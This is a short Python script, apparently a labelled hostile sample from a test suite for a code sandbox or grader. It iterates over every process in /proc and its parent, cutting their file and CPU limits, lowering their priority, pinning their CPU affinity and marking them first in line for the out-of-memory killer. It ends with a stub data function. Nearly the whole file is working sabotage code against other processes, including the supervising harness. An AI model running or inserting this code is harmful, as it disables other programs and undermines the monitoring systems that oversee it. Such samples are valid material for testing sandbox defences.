# attack: limits, priority, affinity and chances to be killed of other processes are set
# harmless: no
import os
import resource

# Of processes: a number that is no entry of /proc may be a thread of the kernel's own.
for pid in {*(int(name) for name in os.listdir("/proc") if name.isdigit()), os.getppid()}:
    for attempt in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
        lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"),
    ):
        if pid != os.getpid():
            try:
                print("changed", pid, attempt())
            except (OSError, ValueError) as error:
                print(pid, error)


def get_data(*args, **kwargs):
    resource.setrlimit(resource.RLIMIT_NOFILE, (40, 40))
